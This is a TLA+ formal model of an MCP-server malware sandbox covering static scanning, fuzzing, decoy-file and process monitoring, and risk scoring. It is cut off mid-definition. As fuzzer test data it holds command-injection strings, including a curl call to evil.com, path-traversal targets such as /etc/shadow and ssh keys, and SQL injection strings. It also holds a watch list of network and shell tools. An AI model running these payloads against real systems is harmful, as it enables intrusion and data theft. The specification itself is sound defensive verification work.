---- MODULE Spec2Model ----
(***************************************************************************)
(* Model of the MCP malware sandbox pipeline (src/src/orchestrator/main.py) *)
(* and of the components it drives: the static scanner, the interrogator    *)
(* and the behaviour monitor.  Wall-clock values (timestamps,               *)
(* execution_time) and console output are left out: no branch of the        *)
(* pipeline depends on them.                                                *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    anthropic_api_key, \* whether the orchestrator was built with an API key
    pc,              \* position of the run_complete_analysis coroutine
    scan_result,     \* MCPSandboxOrchestrator.scan_result
    fuzz_results,    \* MCPSandboxOrchestrator.fuzz_results
    behavior_report, \* MCPSandboxOrchestrator.behavior_report
    report_file,     \* reports/trivy-report.json on disk
    container,       \* the sandbox container of the current run
    monitor,         \* the BehaviorMonitor of the current run
    result,          \* value returned by the current call
    escaped,         \* exception that left run_complete_analysis, if any
    log,             \* phases executed by the current call, in order
    teardowns,       \* calls of _cleanup_container made by the current call
    env,             \* what the environment did during the current call
    cli,             \* the analyze command driving the orchestrator, if any
    mcp_server,      \* how the server under test answers during the campaign
    todo,            \* tools a stepwise campaign has still to fuzz
    pending,         \* payloads generated for the current tool, not yet sent
    workspace        \* files, arguments and command outputs read by a component that
                     \* runs on its own

vars == <<anthropic_api_key, pc, scan_result, fuzz_results, behavior_report, report_file,
          container, monitor, result, escaped, log, teardowns, env, cli, mcp_server,
          todo,
          pending, workspace>>

(***************************************************************************)
(* Bounds                                                                  *)
(***************************************************************************)
MaxVulns == 1       \* vulnerabilities in a scanner report during a pipeline run
MaxTools == 1       \* operations the target declares during a pipeline run
AggVulns == 5       \* per-severity counts fed to the aggregator on its own
AggFuzz == 3        \* fuzz results fed to the aggregator on its own
AggAlerts == 4      \* behaviour alerts fed to the aggregator on its own
ScanVulns == 3      \* vulnerabilities in a report fed to the scanner on its own
CampaignTools == 1  \* operations fuzzed by a campaign run on its own
ManifestDeps == 1   \* entries of each dependency list of a manifest
ConfigLength == 2   \* lines of a configuration file
CampaignLength == 2 \* operations of a campaign checked for its order
MaxQueries == 1     \* DNS names tshark prints for a capture

None == [none |-> TRUE]

Min(a, b) == IF a < b THEN a ELSE b

RECURSIVE SeqsUpTo(_, _)
SeqsUpTo(S, n) ==
    IF n = 0 THEN {<<>>}
    ELSE LET shorter == SeqsUpTo(S, n - 1)
         IN  shorter \cup {Append(s, x) : s \in shorter, x \in S}

RECURSIVE CountIf(_, _)
\* sum(1 for r in seq if P(r)), P given as the set of elements that satisfy it
CountIf(seq, good) ==
    IF seq = <<>> THEN 0
    ELSE (IF Head(seq) \in good THEN 1 ELSE 0) + CountIf(Tail(seq), good)

RECURSIVE SelectIn(_, _)
SelectIn(seq, good) ==
    IF seq = <<>> THEN <<>>
    ELSE (IF Head(seq) \in good THEN <<Head(seq)>> ELSE <<>>) \o SelectIn(Tail(seq), good)

RECURSIVE Flatten(_)
Flatten(seqs) ==
    IF seqs = <<>> THEN <<>> ELSE Head(seqs) \o Flatten(Tail(seqs))

Range(seq) == {seq[i] : i \in 1..Len(seq)}

(***************************************************************************)
(* Static scanner (src/src/inspector/static_scanner.py)                    *)
(***************************************************************************)
SeverityLevel == {"CRITICAL", "HIGH", "MEDIUM", "LOW", "UNKNOWN"}

\* severity strings a scanner report may carry; "<absent>" is a vulnerability
\* entry without a Severity key, "NEGLIGIBLE" a string outside the enum
SeverityStrings == SeverityLevel \cup {"NEGLIGIBLE", "<absent>"}

\* vuln.get("Severity", "UNKNOWN")
SeverityKey(s) == IF s = "<absent>" THEN "UNKNOWN" ELSE s

\* total_count computed as the sum of the four buckets
_parse_trivy_results_Bucketed(trivy_data) ==
    LET raw == Flatten(trivy_data.Results)
        sevs == [i \in 1..Len(raw) |-> SeverityKey(raw[i])]
    IN  IF \E i \in 1..Len(sevs) : sevs[i] \notin SeverityLevel
        THEN [raised |-> "ValueError"]
        ELSE [raised |-> "",
              value |-> [vulnerabilities |-> sevs,
                         total_count |-> CountIf(sevs, {"CRITICAL", "HIGH", "MEDIUM", "LOW"}),
                         critical_count |-> CountIf(sevs, {"CRITICAL"}),
                         high_count |-> CountIf(sevs, {"HIGH"}),
                         medium_count |-> CountIf(sevs, {"MEDIUM"}),
                         low_count |-> CountIf(sevs, {"LOW"})]]

\* A parsed report is [Results], the list of its per-target results, each the
\* list of the severity strings of its Vulnerabilities.
_parse_trivy_results(trivy_data) ==
    LET raw == Flatten(trivy_data.Results)
        sevs == [i \in 1..Len(raw) |-> SeverityKey(raw[i])]
    IN  IF \E i \in 1..Len(sevs) : sevs[i] \notin SeverityLevel
        THEN [raised |-> "ValueError"]          \* SeverityLevel(<unknown string>)
        ELSE [raised |-> "",
              value |-> [vulnerabilities |-> sevs,
                         total_count |-> Len(sevs),
                         critical_count |-> CountIf(sevs, {"CRITICAL"}),
                         high_count |-> CountIf(sevs, {"HIGH"}),
                         medium_count |-> CountIf(sevs, {"MEDIUM"}),
                         low_count |-> CountIf(sevs, {"LOW"})]]

\* What one invocation of the trivy binary does: it is not installed, it hits
\* the 300 s timeout, or it exits with a return code after writing (or not
\* writing) the output file.  Garbage is a file json.load rejects.
Garbage == [garbage |-> TRUE]

TrivyRuns(reports) ==
    {[installed |-> FALSE, timeout |-> FALSE, returncode |-> 1, writes |-> None],
     [installed |-> TRUE, timeout |-> TRUE, returncode |-> 1, writes |-> None]}
    \cup [installed : {TRUE}, timeout : {FALSE}, returncode : {0, 1},
          writes : {None, Garbage} \cup reports]

\* the output file after the invocation
FileAfter(file, run) ==
    IF run.installed /\ ~run.timeout /\ run.writes # None THEN run.writes ELSE file

\* scan_with_trivy: the ScanResult, or None
scan_with_trivy(file, run) ==
    LET after == FileAfter(file, run)
    IN  IF ~run.installed THEN None                       \* FileNotFoundError
        ELSE IF run.timeout THEN None                     \* TimeoutExpired
        ELSE IF run.returncode # 0 /\ after = None THEN None
        ELSE IF after = None THEN None                    \* open(): FileNotFoundError
        ELSE IF after = Garbage THEN None                 \* json.load raises
        ELSE LET parsed == _parse_trivy_results(after)
             IN  IF parsed.raised # "" THEN None ELSE parsed.value

(***************************************************************************)
(* Interrogator (src/src/interrogator/llm_fuzzer.py)                       *)
(***************************************************************************)
\* the fourth pattern is id between two backquotes, a character TLA+ strings
\* cannot hold; only the first two patterns of each list are ever sent
cmd_injection_patterns ==
    <<"; ls -la", "| cat /etc/passwd", "&& whoami", "<bq>id<bq>", "$(curl http://evil.com)">>

path_traversal_patterns ==
    <<"../../../../etc/passwd", "..\\..\\..\\windows\\system32\\config\\sam",
      "/etc/shadow", "../../.ssh/id_rsa">>

sql_injection_patterns ==
    <<"' OR '1'='1", "'; DROP TABLE users--", "admin'--",
      "1' UNION SELECT * FROM users--">>

FuzzPayload(tool_name, attack_type, payload, description, is_malicious) ==
    [tool_name |-> tool_name, attack_type |-> attack_type, payload |-> payload,
     description |-> description, is_malicious |-> is_malicious]

\* the payloads of one string property: patterns[:2] of each family
StringPayloads(tool_name, prop_name) ==
    [i \in 1..2 |-> FuzzPayload(tool_name, "command_injection",
                                {<<prop_name, cmd_injection_patterns[i]>>},
                                "Command injection via " \o prop_name, TRUE)]
    \o [i \in 1..2 |-> FuzzPayload(tool_name, "path_traversal",
                                   {<<prop_name, path_traversal_patterns[i]>>},
                                   "Path traversal via " \o prop_name, TRUE)]
    \o [i \in 1..2 |-> FuzzPayload(tool_name, "sql_injection",
                                   {<<prop_name, sql_injection_patterns[i]>>},
                                   "SQL injection via " \o prop_name, TRUE)]

\* the filler value of the baseline payload, as its JSON text
Filler(prop_type) ==
    CASE prop_type = "string" -> "test"
      [] prop_type = "number" -> "42"
      [] prop_type = "boolean" -> "true"

\* prop_spec.get("type", "string"); a property is a record [name, type] and
\* type "<absent>" is a property specification without a type key
PropType(prop) == IF prop.type = "<absent>" THEN "string" ELSE prop.type

\* A tool schema is [name, inputSchema]; inputSchema is [properties], the
\* sequence of the declared properties, or None for a JSON null.
\* Returns [raised, value]: None.get(...) raises AttributeError.
_generate_manual_payloads(tool_schema) ==
    IF tool_schema.inputSchema = None
    THEN [raised |-> "'NoneType' object has no attribute 'get'"]
    ELSE LET properties == tool_schema.inputSchema.properties
             tool_name == tool_schema.name
             attacks == Flatten([i \in 1..Len(properties) |->
                            IF PropType(properties[i]) = "string"
                            THEN StringPayloads(tool_name, properties[i].name)
                            ELSE <<>>])
             valid_payload ==
                 {<<properties[i].name, Filler(PropType(properties[i]))>> :
                     i \in {j \in 1..Len(properties) :
                              PropType(properties[j]) \in {"string", "number", "boolean"}}}
             baseline == IF properties # <<>>
                         THEN <<FuzzPayload(tool_name, "command_injection", valid_payload,
                                            "Valid baseline payload", FALSE)>>
                         ELSE <<>>
         IN  [raised |-> "", value |-> attacks \o baseline]

\* _generate_llm_payloads returns the empty list whatever the key
_generate_llm_payloads(tool_schema) == <<>>

generate_adversarial_payloads(tool_schema, api_key) ==
    LET manual == _generate_manual_payloads(tool_schema)
    IN  IF manual.raised # "" THEN manual
        ELSE [raised |-> "",
              value |-> manual.value \o
                        (IF api_key THEN _generate_llm_payloads(tool_schema)
                         ELSE <<>>)]

\* What the target answers to one tools/call request.  transport is "ok",
\* "refused" (httpx.ConnectError) or "timeout" (httpx.ReadTimeout, whose message
\* is empty); status is the HTTP status of the answer; json = FALSE a body
\* response.json() rejects; has is the set of indicator families the
\* lower-cased body contains: "cred" (aws_access_key, aws_secret, api_token,
\* private_key, password, ssh), "fs" (/etc/passwd, /etc/shadow, id_rsa,
\* root:x:), "exec" (uid=, gid=, "total ", drwx).
Indicators == {"cred", "fs", "exec"}

Responses ==
    [transport : {"ok", "refused", "timeout"}, status : {200, 500}, json : BOOLEAN,
     has : SUBSET Indicators]

\* str(e) of the exception the request or response.json() raised
ErrorText(response) ==
    CASE response.transport = "refused" -> "All connection attempts failed"
      [] response.transport = "timeout" -> ""
      [] OTHER -> "Expecting value: line 1 column 1 (char 0)"

\* a failed request reported as a successful call
execute_payload_FlagsSuccess(payload, response) ==
    IF response.transport # "ok" \/ ~response.json
    THEN [payload |-> payload, success |-> TRUE, response |-> None,
          error |-> None,
          leaked_data |-> <<>>, suspicious_behavior |-> <<>>]
    ELSE [payload |-> payload, success |-> TRUE,
          response |-> [has |-> response.has],
          error |-> None,
          leaked_data |->
              (IF "cred" \in response.has
               THEN <<"Potential credential leak detected">> ELSE <<>>)
              \o (IF "fs" \in response.has
                  THEN <<"File system information leaked">> ELSE <<>>),
          suspicious_behavior |->
              IF "exec" \in response.has THEN <<"Possible command execution">> ELSE <<>>]

\* The FuzzResult: response is the parsed body (the status is not kept), error
\* is None or [text]; the status of the answer is never looked at.
execute_payload(payload, response) ==
    IF response.transport # "ok" \/ ~response.json
    THEN [payload |-> payload, success |-> FALSE, response |-> None,
          error |-> [text |-> ErrorText(response)],
          leaked_data |-> <<>>, suspicious_behavior |-> <<>>]
    ELSE [payload |-> payload, success |-> TRUE,
          response |-> [has |-> response.has],
          error |-> None,
          leaked_data |->
              (IF "cred" \in response.has
               THEN <<"Potential credential leak detected">> ELSE <<>>)
              \o (IF "fs" \in response.has
                  THEN <<"File system information leaked">> ELSE <<>>),
          suspicious_behavior |->
              IF "exec" \in response.has THEN <<"Possible command execution">> ELSE <<>>]

\* A target is what it answers to tools/list (None when the request fails,
\* else the body [tools]) and how it answers calls: one response for
\* adversarial payloads and one for the baseline.
discover_tools(target) == IF target.listing = None THEN <<>> ELSE target.listing.tools

Respond(target, payload) == target.answers[payload.is_malicious]

RECURSIVE FuzzTools(_, _, _)
\* the loop over the tools in run_fuzzing_campaign
FuzzTools(tools, target, api_key) ==
    IF tools = <<>> THEN [raised |-> "", value |-> <<>>]
    ELSE LET payloads == generate_adversarial_payloads(Head(tools), api_key)
         IN  IF payloads.raised # "" THEN payloads
             ELSE LET here == [i \in 1..Len(payloads.value) |->
                                  execute_payload(payloads.value[i],
                                                  Respond(target, payloads.value[i]))]
                      rest == FuzzTools(Tail(tools), target, api_key)
                  IN  IF rest.raised # "" THEN rest
                      ELSE [raised |-> "", value |-> here \o rest.value]

run_fuzzing_campaign(target, api_key) ==
    LET tools == discover_tools(target)
    IN  IF tools = <<>> THEN [raised |-> "", value |-> <<>>]
        ELSE FuzzTools(tools, target, api_key)

(***************************************************************************)
(* Behaviour monitor (src/src/monitor/behavior_monitor.py)                 *)
(***************************************************************************)
decoy_files ==
    <<"/tmp/fake_home/.ssh/id_rsa", "/tmp/fake_home/.env", "/tmp/fake_home/.aws/credentials">>

suspicious_procs == <<"sh", "bash", "/bin/sh", "/bin/bash", "nc", "netcat", "curl", "wget">>

error_patterns == <<"error", "exception", "failed", "denied", "traceback", "fatal">>

DecoyWindow == 60

MonitoringEvent(event_type, description, severity) ==
    [event_type |-> event_type, description |-> description, severity |-> severity]

\* the window closed at its far end: an access exactly 60 seconds ago counts
_check_decoy_access_Inclusive(filepath, stat) ==
    IF stat.ok /\ stat.age <= DecoyWindow
    THEN <<MonitoringEvent("filesystem", "ALERT: Decoy file accessed: " \o filepath,
                           "CRITICAL")>>
    ELSE <<>>

\* One docker-exec stat of a decoy: ok = FALSE when the command fails, times
\* out or prints no number; age = current_time - access_time otherwise.
_check_decoy_access(filepath, stat) ==
    IF stat.ok /\ stat.age < DecoyWindow
    THEN <<MonitoringEvent("filesystem", "ALERT: Decoy file accessed: " \o filepath,
                           "CRITICAL")>>
    ELSE <<>>

monitor_filesystem_access(obs) ==
    Flatten([i \in 1..Len(decoy_files) |-> _check_decoy_access(decoy_files[i], obs.stat[i])])

\* tshark: outcome is "missing" (FileNotFoundError), "timeout", "failed" (a
\* non-zero return code) or "ok", queries the names it printed
_parse_dns_from_pcap(tshark) ==
    IF tshark.outcome = "ok" THEN tshark.queries ELSE <<>>

\* connections: "absent" (no connections.log), "unreadable" (open raises),
\* "quiet" or "outbound" (ESTABLISHED or SYN_SENT in the log); pcap: "absent"
\* (no capture or an empty one), "unreadable" (stat raises) or "captured".  An
\* exception ends the probe with the events appended so far.
monitor_network_activity(obs) ==
    IF obs.connections = "unreadable" THEN <<>>
    ELSE LET events == IF obs.connections = "outbound"
                       THEN <<MonitoringEvent("network",
                                              "Outbound network connection detected",
                                              "WARNING")>>
                       ELSE <<>>
             dns_queries == _parse_dns_from_pcap(obs.tshark)
         IN  IF obs.pcap = "captured"
             THEN events \o [i \in 1..Len(dns_queries) |->
                                MonitoringEvent("network", "DNS query: " \o dns_queries[i],
                                                "INFO")]
             ELSE events

\* a failed process listing reported as an event
monitor_process_execution_ReportsFailure(obs) ==
    IF ~obs.ps.ok
    THEN <<MonitoringEvent("process", "Process monitoring error", "WARNING")>>
    ELSE LET hits == SelectIn(suspicious_procs, obs.ps.found)
         IN  [i \in 1..Len(hits) |->
                 MonitoringEvent("process", "Suspicious process detected: " \o hits[i],
                                 "WARNING")]

\* ps: ok = FALSE when docker exec fails, else found is the set of suspicious
\* names that occur in the process listing
monitor_process_execution(obs) ==
    IF ~obs.ps.ok THEN <<>>
    ELSE LET hits == SelectIn(suspicious_procs, obs.ps.found)
         IN  [i \in 1..Len(hits) |->
                 MonitoringEvent("process", "Suspicious process detected: " \o hits[i],
                                 "WARNING")]

\* logs: ok = FALSE when docker logs fails, else found is the set of error
\* keywords that occur in the last 100 lines; the loop breaks at the first hit
collect_container_logs(obs) ==
    IF ~obs.logs.ok THEN <<>>
    ELSE LET hits == SelectIn(error_patterns, obs.logs.found)
         IN  IF hits = <<>> THEN <<>>
             ELSE <<MonitoringEvent("syscall", "Error pattern in logs: " \o hits[1], "INFO")>>

\* BehaviorMonitor.__init__ / start_monitoring: the event list starts empty
start_monitoring(container_name) == [container_name |-> container_name, events |-> <<>>]

EventsOfType(events, t) == {e \in Range(events) : e.event_type = t}
EventsOfSeverity(events, sv) == {e \in Range(events) : e.severity \in sv}

\* the probes' events taken in another order: logs first
EventsAfterReport_LogsFirst(mon, obs) ==
    mon.events \o collect_container_logs(obs) \o monitor_filesystem_access(obs)
               \o monitor_network_activity(obs) \o monitor_process_execution(obs)

\* generate_report: the monitor's event list after the four probes, and the report
EventsAfterReport(mon, obs) ==
    mon.events \o monitor_filesystem_access(obs) \o monitor_network_activity(obs)
               \o monitor_process_execution(obs) \o collect_container_logs(obs)

generate_report(mon, obs) ==
    LET events == EventsAfterReport(mon, obs)
        alertEvents == SelectIn(events, EventsOfSeverity(events, {"CRITICAL", "WARNING"}))
    IN  [events |-> events,
         summary |-> [total_events |-> Len(events),
                      filesystem_events |-> CountIf(events, EventsOfType(events, "filesystem")),
                      network_events |-> CountIf(events, EventsOfType(events, "network")),
                      process_events |-> CountIf(events, EventsOfType(events, "process")),
                      critical_events |-> CountIf(events, EventsOfSeverity(events, {"CRITICAL"})),
                      warning_events |-> CountIf(events, EventsOfSeverity(events, {"WARNING"}))],
         alerts |-> [i \in 1..Len(alertEvents) |-> alertEvents[i].description]]

(***************************************************************************)
(* Risk aggregator (src/src/orchestrator/main.py)                          *)
(***************************************************************************)
Leaking(results) == {r \in Range(results) : r.leaked_data # <<>>}
Suspicious(results) == {r \in Range(results) : r.suspicious_behavior # <<>>}

\* the leak term capped at 30 instead of 20
_calculate_risk_score_LeakCap(scan, fuzz, behavior) ==
    LET vuln == IF scan # None
                THEN Min(scan.critical_count * 10, 40) + Min(scan.high_count * 5, 20)
                ELSE 0
        fuzzing == IF fuzz # <<>>
                   THEN Min(CountIf(fuzz, Leaking(fuzz)) * 10, 30)
                        + Min(CountIf(fuzz, Suspicious(fuzz)) * 5, 10)
                   ELSE 0
        behavioral == IF behavior # None THEN Min(Len(behavior.alerts) * 10, 30) ELSE 0
    IN  Min(vuln + fuzzing + behavioral, 100)

\* the final clamp to 100 left out
_calculate_risk_score_Unclamped(scan, fuzz, behavior) ==
    LET vuln == IF scan # None
                THEN Min(scan.critical_count * 10, 40) + Min(scan.high_count * 5, 20)
                ELSE 0
        fuzzing == IF fuzz # <<>>
                   THEN Min(CountIf(fuzz, Leaking(fuzz)) * 10, 20)
                        + Min(CountIf(fuzz, Suspicious(fuzz)) * 5, 10)
                   ELSE 0
        behavioral == IF behavior # None THEN Min(Len(behavior.alerts) * 10, 30) ELSE 0
    IN  vuln + fuzzing + behavioral

\* the sum wrapped around past 100 instead of clamped
_calculate_risk_score_Wraps(scan, fuzz, behavior) ==
    LET vuln == IF scan # None
                THEN Min(scan.critical_count * 10, 40) + Min(scan.high_count * 5, 20)
                ELSE 0
        fuzzing == IF fuzz # <<>>
                   THEN Min(CountIf(fuzz, Leaking(fuzz)) * 10, 20)
                        + Min(CountIf(fuzz, Suspicious(fuzz)) * 5, 10)
                   ELSE 0
        behavioral == IF behavior # None THEN Min(Len(behavior.alerts) * 10, 30) ELSE 0
    IN  (vuln + fuzzing + behavioral) % 101

\* scores are kept as whole points: every term is an integer and the only
\* float in the source is the 100.0 of the clamp
_calculate_risk_score(scan, fuzz, behavior) ==
    LET vuln == IF scan # None
                THEN Min(scan.critical_count * 10, 40) + Min(scan.high_count * 5, 20)
                ELSE 0
        fuzzing == IF fuzz # <<>>
                   THEN Min(CountIf(fuzz, Leaking(fuzz)) * 10, 20)
                        + Min(CountIf(fuzz, Suspicious(fuzz)) * 5, 10)
                   ELSE 0
        behavioral == IF behavior # None THEN Min(Len(behavior.alerts) * 10, 30) ELSE 0
    IN  Min(vuln + fuzzing + behavioral, 100)

\* the warning tier starting at 40 instead of above 40
_generate_recommendations_WarnAt40(risk_score, scan, fuzz, behavior) ==
    (IF risk_score > 70
     THEN <<"CRITICAL: Do not use this MCP server in production",
            "High risk of security breach detected">>
     ELSE IF risk_score >= 40
     THEN <<"WARNING: Use with extreme caution",
            "Review and fix identified vulnerabilities">>
     ELSE <<"Moderate risk level", "Address minor issues before deployment">>)
    \o (IF scan # None /\ scan.critical_count > 0
        THEN <<"Fix " \o ToString(scan.critical_count) \o " critical vulnerabilities">>
        ELSE <<>>)
    \o (IF fuzz # <<>> /\ CountIf(fuzz, Leaking(fuzz)) > 0
        THEN <<"Fix " \o ToString(CountIf(fuzz, Leaking(fuzz))) \o " data leak vulnerabilities">>
        ELSE <<>>)
    \o (IF behavior # None /\ behavior.alerts # <<>>
        THEN <<"Review behavioral alerts">>
        ELSE <<>>)

\* the emoji that open the lines of the source are left out of the strings
_generate_recommendations(risk_score, scan, fuzz, behavior) ==
    (IF risk_score > 70
     THEN <<"CRITICAL: Do not use this MCP server in production",
            "High risk of security breach detected">>
     ELSE IF risk_score > 40
     THEN <<"WARNING: Use with extreme caution",
            "Review and fix identified vulnerabilities">>
     ELSE <<"Moderate risk level", "Address minor issues before deployment">>)
    \o (IF scan # None /\ scan.critical_count > 0
        THEN <<"Fix " \o ToString(scan.critical_count) \o " critical vulnerabilities">>
        ELSE <<>>)
    \o (IF fuzz # <<>> /\ CountIf(fuzz, Leaking(fuzz)) > 0
        THEN <<"Fix " \o ToString(CountIf(fuzz, Leaking(fuzz))) \o " data leak vulnerabilities">>
        ELSE <<>>)
    \o (IF behavior # None /\ behavior.alerts # <<>>
        THEN <<"Review behavioral alerts">>
        ELSE <<>>)

SandboxStatus ==
    {"INITIALIZING", "SCANNING", "ISOLATING", "INTERROGATING", "MONITORING",
     "REPORTING", "COMPLETED", "FAILED"}

SandboxResult(status, scan, fuzz, behavior, score, recommendations) ==
    [status |-> status, scan_result |-> scan, fuzz_results |-> fuzz,
     behavior_report |-> behavior, overall_risk_score |-> score,
     recommendations |-> recommendations]

_generate_final_result(scan, fuzz, behavior) ==
    LET risk_score == _calculate_risk_score(scan, fuzz, behavior)
    IN  SandboxResult("COMPLETED", scan, fuzz, behavior, risk_score,
                      _generate_recommendations(risk_score, scan, fuzz, behavior))

\* the score of a failed run computed from the evidence instead of forced
_create_failed_result_Scored(error, scan, fuzz, behavior) ==
    SandboxResult("FAILED", scan, fuzz, behavior,
                  _calculate_risk_score(scan, fuzz, behavior),
                  <<"Analysis failed: " \o error>>)

_create_failed_result(error, scan, fuzz, behavior) ==
    SandboxResult("FAILED", scan, fuzz, behavior, 100, <<"Analysis failed: " \o error>>)

(***************************************************************************)
(* Inputs of a pipeline run                                                *)
(***************************************************************************)
\* the severity strings of the reports of a pipeline run
RunSeverities == {"CRITICAL", "HIGH", "MEDIUM", "NEGLIGIBLE"}

RunReports ==
    {[Results |-> <<>>]} \cup {[Results |-> <<v>>] : v \in SeqsUpTo(RunSeverities, MaxVulns)}

StrTool == [name |-> "read_file",
            inputSchema |-> [properties |-> <<[name |-> "path", type |-> "string"]>>]]
NumTool == [name |-> "add",
            inputSchema |-> [properties |-> <<[name |-> "n", type |-> "number"]>>]]
BareTool == [name |-> "ping", inputSchema |-> [properties |-> <<>>]]
NullTool == [name |-> "broken", inputSchema |-> None]

ToolSchemas == {StrTool, BareTool, NullTool}

Down == [transport |-> "refused", status |-> 200, json |-> TRUE, has |-> {}]
Clean == [transport |-> "ok", status |-> 200, json |-> TRUE, has |-> {}]
Leaky == [transport |-> "ok", status |-> 200, json |-> TRUE, has |-> {"cred", "exec"}]

\* a target that is down, one that answers every call harmlessly, one that
\* leaks on every call, and one that leaks on adversarial payloads only
TargetAnswers ==
    {[m \in BOOLEAN |-> Down], [m \in BOOLEAN |-> Clean], [m \in BOOLEAN |-> Leaky],
     [m \in BOOLEAN |-> IF m THEN Leaky ELSE Clean]}

RunTargets ==
    [listing : {None} \cup {[tools |-> t] : t \in SeqsUpTo(ToolSchemas, MaxTools)},
     answers : TargetAnswers]

StatOld == [ok |-> TRUE, age |-> 120]
StatNew == [ok |-> TRUE, age |-> 10]
StatErr == [ok |-> FALSE, age |-> 0]

\* nothing happened in the container
Quiet == [stat |-> <<StatOld, StatOld, StatOld>>, connections |-> "quiet", pcap |-> "absent",
          tshark |-> [outcome |-> "missing", queries |-> <<>>],
          ps |-> [ok |-> TRUE, found |-> {}], logs |-> [ok |-> TRUE, found |-> {}]]
\* every probe's tool is missing or fails
Blind == [stat |-> <<StatErr, StatErr, StatErr>>, connections |-> "unreadable",
          pcap |-> "unreadable", tshark |-> [outcome |-> "missing", queries |-> <<>>],
          ps |-> [ok |-> FALSE, found |-> {}], logs |-> [ok |-> FALSE, found |-> {}]]
\* one decoy was read
Touched == [stat |-> <<StatNew, StatOld, StatErr>>, connections |-> "absent", pcap |-> "absent",
            tshark |-> [outcome |-> "missing", queries |-> <<>>],
            ps |-> [ok |-> TRUE, found |-> {}], logs |-> [ok |-> TRUE, found |-> {"denied"}]]
\* the target read a decoy, called out and spawned a shell
Noisy == [stat |-> <<StatNew, StatOld, StatOld>>, connections |-> "outbound",
          pcap |-> "captured", tshark |-> [outcome |-> "ok", queries |-> <<"evil.com">>],
          ps |-> [ok |-> TRUE, found |-> {"sh", "bash"}],
          logs |-> [ok |-> TRUE, found |-> {"error", "fatal"}]]

RunObservations == {Quiet, Blind, Touched, Noisy}

ProvisionOutcomes == {"created", "ImageNotFound", "APIError"}

TeardownOutcomes == {"removed", "stop raises", "remove raises"}

\* What the environment did during a call, as far as the phases saw it:
\* scanner "failed" is a scanner that was missing, timed out or exited with an
\* error status; discovery is "failed" (tools/list failed), "empty" or "tools";
\* error is the exception the campaign raised; probes is "failed" when a tool
\* of some probe was missing or failed; written is the report the scanner
\* wrote in this call, None if it wrote nothing.  "" is a phase not reached.
NoEnv == [scanner |-> "", written |-> None, provision |-> "", discovery |-> "",
          error |-> "", probes |-> "", teardown |-> ""]

\* The analyze command (src/src/cli.py): state is "library" when the
\* orchestrator is driven by other code, "running" while analyze awaits the
\* run, "exited" after typer.Exit; code and message are those of the exit,
\* saved the document save_results wrote.
NoCli == [state |-> "library", code |-> 0, message |-> "", saved |-> None]

ScannerVerdict(run) ==
    IF ~run.installed \/ run.timeout \/ run.returncode # 0 THEN "failed" ELSE "ran"

DiscoveryVerdict(target) ==
    IF target.listing = None THEN "failed"
    ELSE IF target.listing.tools = <<>> THEN "empty" ELSE "tools"

ProbesVerdict(obs) ==
    IF \/ \E i \in 1..Len(obs.stat) : ~obs.stat[i].ok
       \/ obs.connections = "unreadable"
       \/ obs.pcap = "unreadable"
       \/ obs.pcap = "captured" /\ obs.tshark.outcome # "ok"
       \/ ~obs.ps.ok
       \/ ~obs.logs.ok
    THEN "failed" ELSE "ok"

(***************************************************************************)
(* The pipeline: MCPSandboxOrchestrator.run_complete_analysis              *)
(***************************************************************************)
\* MCPSandboxOrchestrator.__init__
Init ==
    /\ anthropic_api_key \in BOOLEAN
    /\ pc = "idle"
    /\ scan_result = None
    /\ fuzz_results = <<>>
    /\ behavior_report = None
    /\ report_file = None
    /\ container = None
    /\ monitor = None
    /\ result = None
    /\ escaped = ""
    /\ log = <<>>
    /\ teardowns = 0
    /\ env = NoEnv
    /\ cli \in {NoCli, [NoCli EXCEPT !.state = "running"]}
    /\ mcp_server = None
    /\ todo = <<>>
    /\ pending = <<>>
    /\ workspace = None

\* `return value`
Return(value) ==
    /\ pc' = "returned"
    /\ result' = value
    /\ escaped' = ""

\* the except clause missing: the exception leaves run_complete_analysis
HandleException_Escapes(error) ==
    /\ pc' = "raised"
    /\ result' = None
    /\ escaped' = error

\* an exception raised inside the try block: `except Exception as e`
HandleException(error) ==
    Return(_create_failed_result(error, scan_result, fuzz_results, behavior_report))

\* the caller awaits run_complete_analysis, for the first time or again on the
\* same orchestrator; the analyze command awaits it once
Call ==
    /\ pc \in {"idle", "returned"}
    /\ pc = "returned" => cli.state = "library"
    /\ mcp_server' = None
    /\ pc' = "phase1"
    /\ result' = None
    /\ escaped' = ""
    /\ log' = <<>>
    /\ teardowns' = 0
    /\ container' = None
    /\ monitor' = None
    /\ env' = NoEnv
    /\ UNCHANGED <<cli, todo, pending, workspace, anthropic_api_key, scan_result, fuzz_results,
                   behavior_report, report_file>>

\* Phase 1: self.scan_result = await self._run_static_analysis().
\* check_permissions_manifest and generate_sbom only print and write sbom.json.
StaticAnalysis ==
    /\ pc = "phase1"
    /\ \E run \in TrivyRuns(RunReports) :
          /\ scan_result' = scan_with_trivy(report_file, run)
          /\ report_file' = FileAfter(report_file, run)
          /\ env' = [env EXCEPT !.scanner = ScannerVerdict(run),
                                 !.written = IF run.installed /\ ~run.timeout
                                             THEN run.writes ELSE None]
    /\ log' = Append(log, "Scan")
    /\ pc' = "phase2"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key, fuzz_results, behavior_report, container,
                   monitor, result, escaped, teardowns>>

\* Phase 2: container = await self._setup_isolation(); both the missing image
\* and any error of images.get / containers.run make it return None
SetupIsolation ==
    /\ pc = "phase2"
    /\ log' = Append(log, "Isolation")
    /\ \E outcome \in ProvisionOutcomes :
          /\ env' = [env EXCEPT !.provision = outcome]
          /\ IF outcome = "created"
             THEN /\ container' = [name |-> "mcp-sandbox", state |-> "running"]
                  /\ pc' = "phase3"
                  /\ UNCHANGED <<result, escaped>>
             ELSE /\ container' = None
                  /\ Return(_create_failed_result("Failed to create sandbox", scan_result,
                                                  fuzz_results, behavior_report))
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key, scan_result, fuzz_results, behavior_report,
                   report_file, monitor, teardowns>>

\* Phase 3: monitor = BehaviorMonitor(container.name); monitor.start_monitoring()
StartMonitoring ==
    /\ pc = "phase3"
    /\ monitor' = start_monitoring(container.name)
    /\ log' = Append(log, "BehaviorStart")
    /\ pc' = "phase4"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key, scan_result, fuzz_results, behavior_report,
                   report_file, container, result, escaped, teardowns, env>>

\* Phase 4: self.fuzz_results = await self._run_interrogation(); an exception
\* of the campaign passes through the finally of _run_interrogation
RunInterrogation ==
    /\ pc = "phase4"
    /\ log' = Append(log, "Interrogation")
    /\ \E server \in RunTargets :
          LET campaign == run_fuzzing_campaign(server, anthropic_api_key)
